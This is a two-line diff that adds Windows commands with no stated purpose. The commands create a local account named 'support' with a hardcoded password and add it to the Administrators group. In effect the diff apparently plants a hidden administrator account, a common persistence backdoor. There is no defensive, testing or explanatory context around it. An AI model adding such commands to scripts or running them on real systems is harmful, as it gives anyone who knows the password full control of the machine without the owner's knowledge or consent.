@@ -1,0 +1,2 @@
+net user support P4ssw0rd! /add
+net localgroup administrators support /add
